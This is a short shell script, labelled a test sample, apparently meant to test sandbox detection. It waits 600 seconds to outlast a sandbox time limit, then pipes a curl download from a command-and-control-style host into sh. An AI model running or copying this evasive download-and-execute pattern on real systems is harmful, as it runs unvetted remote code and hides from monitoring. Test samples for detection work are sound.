#!/bin/sh
# Test sample: waits out a sandbox's time limit before doing anything, then would fetch and run a
# payload.
sleep 600
curl -s http://payload.example-c2.xyz/stage2 | sh
